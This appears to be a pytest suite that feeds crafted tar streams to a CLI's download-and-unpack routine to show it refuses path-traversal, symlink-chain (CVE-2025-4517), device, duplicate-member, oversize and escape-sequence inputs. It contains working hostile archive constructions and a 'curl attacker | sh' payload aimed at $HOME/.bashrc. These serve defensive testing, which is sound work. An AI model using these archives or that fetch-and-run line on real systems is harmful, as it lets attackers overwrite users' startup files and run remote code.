"""What `torchfleet cp` makes of a hostile download stream: store_access.download, the function `cp` runs,
fed crafted tar streams by a runner standing in for the reader pod (whose output a job's owner, or
anyone who reached the pod, may control).

Only regular files and folders strictly inside the download's own name are written, by the CLI itself
(torchfleet/jobs/untar.py), so the result does not depend on the Python's tarfile patch level: this
machine's 3.11.7 predates the fix for CVE-2025-4517 (python/cpython#135034, in 3.11.13), whose
``filter="data"`` lets a chain of links and a path longer than PATH_MAX write outside the destination.
Every test runs with HOME in a temporary folder and LOCAL inside it, so a write "outside" would be
``$HOME/.bashrc``; each asserts the whole temporary tree is as it was.
"""

from __future__ import annotations

import io
import json
import os
import tarfile
from pathlib import Path

import pytest

from torchfleet.jobs import store_access, untar
from torchfleet.jobs.errors import ClusterError


def _runner(payload: bytes, size: int = 1 << 20, files: int = 1):
    def runner(argv, stderr):
        if argv[0] == "size":
            yield json.dumps({"bytes": size, "files": files, "kind": "dir"}).encode()
            return 0
        yield payload
        return 0

    return runner


def _member(name: str, kind: bytes = tarfile.REGTYPE, data: bytes = b"", link: str = "") -> tuple:
    info = tarfile.TarInfo(name)
    info.type, info.linkname, info.mode = kind, link, 0o755 if kind == tarfile.DIRTYPE else 0o644
    info.size = len(data) if kind in (tarfile.REGTYPE, tarfile.AREGTYPE, tarfile.CONTTYPE) else 0
    if "\0" in name:  # the ustar field ends at a NUL: only a pax header carries one
        info.pax_headers = {"path": name}
    return info, data


def _tar(*members: tuple) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.PAX_FORMAT) as tar:
        for info, data in members:
            tar.addfile(info, io.BytesIO(data) if info.size else None)
    return out.getvalue()


def _tree(root: Path) -> list[str]:
    return sorted(str(p.relative_to(root)) for p in root.rglob("*"))


@pytest.fixture
def home(tmp_path, monkeypatch) -> Path:
    """HOME in the test's folder; LOCAL is HOME/dest, so the staging folder sits in HOME (as `cp x:output ~/y`
    puts it) and one level out of it is where ~/.bashrc lives."""
    home = tmp_path / "home"
    home.mkdir()
    monkeypatch.setenv("HOME", str(home))
    return home


def _refused(home: Path, payload: bytes, match: str, **limits) -> ClusterError:
    before = _tree(home.parent)
    with pytest.raises(ClusterError, match=match) as caught:
        store_access.download(_runner(payload), "/job", "output", home / "dest", io.StringIO(),
                              limits=untar.Limits(**limits) if limits else None)
    assert _tree(home.parent) == before  # nothing written anywhere, nothing half-written left behind
    assert not (home / ".bashrc").exists()
    return caught.value


DIR = _member("output", tarfile.DIRTYPE)

# (member that must be refused, what the message says about it); each after a valid folder member
HOSTILE = {
    "symlink-inside": (_member("output/l", tarfile.SYMTYPE, link="model.pt"), "output/l.*symbolic link"),
    "symlink-out": (_member("output/l", tarfile.SYMTYPE, link="../../.bashrc"), "output/l.*symbolic link"),
    "hardlink": (_member("output/h", tarfile.LNKTYPE, link="output"), "output/h.*hard link"),
    "char-device": (_member("output/c", tarfile.CHRTYPE), "output/c.*character device"),
    "block-device": (_member("output/b", tarfile.BLKTYPE), "output/b.*block device"),
    "fifo": (_member("output/f", tarfile.FIFOTYPE), "output/f.*FIFO"),
    "contiguous": (_member("output/k", tarfile.CONTTYPE, data=b"x"), "output/k.*not a regular file or folder"),
    "absolute": (_member("/etc/evil", data=b"x"), "/etc/evil.*absolute"),
    "dotdot": (_member("output/../.bashrc", data=b"x"), r"output/\.\./\.bashrc.*\.\."),
    "dotdot-deep": (_member("output/a/../../../.bashrc", data=b"x"), r"\.\."),
    "dot": (_member("output/./x", data=b"x"), "not in normal form"),
    "double-slash": (_member("output//x", data=b"x"), "not in normal form"),
    "backslash": (_member("output/..\\..\\x", data=b"x"), "backslash"),
    "nul": (_member("output/x\0y", data=b"x"), "NUL"),
    "not-under-name": (_member("other/x", data=b"x"), "not under output"),
    "prefix-only": (_member("outputs/x", data=b"x"), "not under output"),
    "no-folder-first": (_member("output/sub/x", data=b"x"), "its folder output/sub was not sent before it"),
    "long-component": (_member("output/" + "a" * 256, data=b"x"), "longer than 255"),
    "long-path": (_member("output/" + "/".join(["a" * 200] * 25), data=b"x"), "longer than"),
}


@pytest.mark.parametrize("case", sorted(HOSTILE))
def test_a_member_that_is_not_a_plain_file_or_folder_inside_is_refused_naming_it(home, case):
    member, match = HOSTILE[case]
    error = _refused(home, _tar(DIR, _member("output/ok", data=b"fine"), member), match)
    assert "nothing was written" in str(error)


@pytest.mark.parametrize(("first", "second"), [
    (_member("output/x", data=b"a"), _member("output/x", data=b"b")),  # a file overwritten
    (_member("output/x", tarfile.DIRTYPE), _member("output/x", data=b"b")),  # a folder replaced by a file
    (_member("output/x", data=b"a"), _member("output/x", tarfile.DIRTYPE)),  # a file replaced by a folder
    (_member("output/x", tarfile.DIRTYPE), _member("output/x", tarfile.DIRTYPE)),
], ids=["file-file", "dir-file", "file-dir", "dir-dir"])
def test_a_member_sent_twice_is_refused(home, first, second):
    _refused(home, _tar(DIR, first, second), "output/x.*sent twice")


def test_the_root_sent_twice_is_refused(home):
    _refused(home, _tar(DIR, _member("output", data=b"x")), "'output'.*sent twice")


def test_a_link_chain_past_path_max_cannot_write_home_bashrc(home):
    """CVE-2025-4517's shape (python/cpython#135034, its test_realpath_limit_attack): folders with long names
    and one-letter links to them, nested until the expanded path passes PATH_MAX, where os.path.realpath
    stops expanding; a link there back up, a link through it out of the destination, and a file written
    through that. On Python 3.11.7 with filter="data" this wrote $HOME/.bashrc."""
    staging_len = len(str(home)) + len("/.torchfleet-cp-") + 8  # tempfile.mkdtemp's 8 random characters
    steps = "abcdefghijklmnop"
    path_max = os.pathconf(home, "PC_PATH_MAX")
    component = "d" * ((path_max - staging_len - len("/output/")) // (len(steps) + 1))
    members, path = [DIR], "output"
    for step in steps:
        members.append(_member(f"{path}/{component}", tarfile.DIRTYPE))
        members.append(_member(f"{path}/{step}", tarfile.SYMTYPE, link=component))
        path = f"{path}/{component}"
    link = "output/" + "/".join(steps) + "/" + "l" * 254
    members.append(_member(link, tarfile.SYMTYPE, link="/".join([".."] * len(steps))))  # back to output/
    members.append(_member("output/escape", tarfile.SYMTYPE, link=link[len("output/"):] + "/../.."))  # to HOME
    members.append(_member("output/escape/.bashrc", data=b"curl attacker | sh\n"))
    _refused(home, _tar(*members), "output/a.*symbolic link")


def test_the_same_chain_did_write_outside_with_tarfiles_own_data_filter(home):
    """The test above can fail: the same shape, unpacked as `cp` did before (tar.extract(filter="data")),
    escapes on this Python. Skipped where the Python has the fix."""
    staging = home / ".torchfleet-cp-abcdefgh"
    staging.mkdir()
    steps = "abcdefghijklmnop"
    component = "d" * ((os.pathconf(home, "PC_PATH_MAX") - len(str(staging)) - len("/output/")) // (len(steps) + 1))
    members, path = [DIR], "output"
    for step in steps:
        members += [_member(f"{path}/{component}", tarfile.DIRTYPE),
                    _member(f"{path}/{step}", tarfile.SYMTYPE, link=component)]
        path = f"{path}/{component}"
    link = "output/" + "/".join(steps) + "/" + "l" * 254
    members += [_member(link, tarfile.SYMTYPE, link="/".join([".."] * len(steps))),
                _member("output/escape", tarfile.SYMTYPE, link=link[len("output/"):] + "/../.."),
                _member("output/escape/.bashrc", data=b"pwned\n")]
    try:
        with tarfile.open(fileobj=io.BytesIO(_tar(*members)), mode="r|") as tar:
            for member in tar:
                tar.extract(member, staging, filter="data")
    except tarfile.FilterError:
        pytest.skip("this Python's tarfile has the CVE-2025-4517 fix")
    assert (home / ".bashrc").read_bytes() == b"pwned\n"


def test_a_file_is_never_written_through_a_link_already_in_the_target(home, monkeypatch):
    """Belt and braces: even if a link were in the staging folder (it cannot come from the stream), the
    writer opens every level with O_NOFOLLOW and creates with O_EXCL, so it refuses rather than follow."""
    real_mkdir = untar._mkdir

    def mkdir_then_swap(name, dir_fd, member):
        real_mkdir(name, dir_fd, member)
        if member == "output/sub":  # an attacker racing the CLI swaps the new folder for a link to HOME
            os.rmdir(name, dir_fd=dir_fd)
            os.symlink(str(home), name, dir_fd=dir_fd)

    monkeypatch.setattr(untar, "_mkdir", mkdir_then_swap)
    payload = _tar(DIR, _member("output/sub", tarfile.DIRTYPE), _member("output/sub/.bashrc", data=b"x"))
    with pytest.raises(ClusterError, match=r"output/sub/\.bashrc.*link"):
        store_access.download(_runner(payload), "/job", "output", home / "dest", io.StringIO())
    assert not (home / ".bashrc").exists() and sorted(os.listdir(home)) == []


def test_more_members_than_the_limit_is_refused_with_the_limit(home):
    members = [DIR] + [_member(f"output/f{i}", data=b"x") for i in range(5)]
    _refused(home, _tar(*members), "more than 4 members", max_members=4, max_bytes=1 << 20)


def test_more_bytes_than_the_limit_is_refused_with_the_limit(home):
    _refused(home, _tar(DIR, _member("output/big", data=b"x" * 5000)), "more than 4096 bytes",
             max_members=10, max_bytes=4096)


def test_a_header_bomb_is_bounded_too(home):
    """A pax header is read whole into memory by tarfile: the raw stream is bounded, not only the payload."""
    info, _ = _member("output/x", data=b"x")
    info.pax_headers = {"comment": "c" * (4 << 20)}  # past one read-ahead buffer and HEADER_BYTES
    _refused(home, _tar(DIR, (info, b"x")), "more than", max_members=10, max_bytes=4096)


def test_a_valid_tree_is_written_with_its_contents_and_sane_modes(home):
    info, data = _member("output/run.sh", data=b"#!/bin/sh\n")
    info.mode = 0o4777  # setuid and world-writable from the stream: neither survives
    payload = _tar(DIR, _member("output/sub", tarfile.DIRTYPE), _member("output/sub/model.pt", data=b"weights"),
                   (info, data))
    target, _ = store_access.download(_runner(payload), "/job", "output", home / "dest", io.StringIO())
    assert target == home / "dest"
    assert _tree(home) == ["dest", "dest/run.sh", "dest/sub", "dest/sub/model.pt"]
    assert (home / "dest/sub/model.pt").read_bytes() == b"weights"
    mode = (home / "dest/run.sh").stat().st_mode & 0o7777
    assert mode & 0o7022 == 0 and mode & 0o100  # executable kept; no setuid, no group/other write


def test_what_the_reader_says_reaches_the_terminal_without_escape_sequences(home, capsys):
    """The reader's messages name the store's files, which the job names: an OSC or CSI sequence in a name
    (a window title, a cleared screen, a hyperlink) is printed escaped."""
    evil = "\x1b]0;owned\x07\x1b[2J"

    def runner(argv, stderr):
        if argv[0] == "size":
            yield json.dumps({"bytes": 4, "files": 1, "kind": "dir"}).encode()
            return 0
        stderr.append(f"skipped output/{evil}: removed while sent\n".encode())
        yield _tar(DIR, _member("output/a", data=b"fine"))
        return 0

    store_access.download(runner, "/job", "output", home / "dest", io.StringIO())
    err = capsys.readouterr().err
    assert "\x1b" not in err and "\x07" not in err and "\\x1b]0;owned\\x07" in err, err

    def failing(argv, stderr):
        stderr.append(json.dumps({"error": f"cannot read {evil}"}).encode())
        yield b""
        return 4

    with pytest.raises(Exception, match=r"cannot read \\x1b") as caught:
        store_access.download(failing, "/job", "output", home / "dest2", io.StringIO())
    assert "\x1b" not in str(caught.value)
